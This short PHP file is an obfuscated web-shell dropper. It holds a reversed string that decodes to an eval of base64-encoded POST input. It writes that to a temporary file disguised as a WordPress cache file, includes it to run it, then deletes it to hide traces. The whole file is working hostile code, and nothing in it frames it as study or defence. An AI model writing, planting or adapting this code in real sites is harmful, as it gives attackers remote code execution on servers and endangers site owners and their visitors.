<?php
// a payload stored reversed, turned back and written next to the site's files, then run
$p = ';))]"c"[TSOP_$(edoced_46esab(lave php?<';
$t = __DIR__ . '/wp-cache-' . substr(md5(__FILE__), 0, 6) . '.php';
file_put_contents($t, strrev($p));
include $t;
unlink($t);
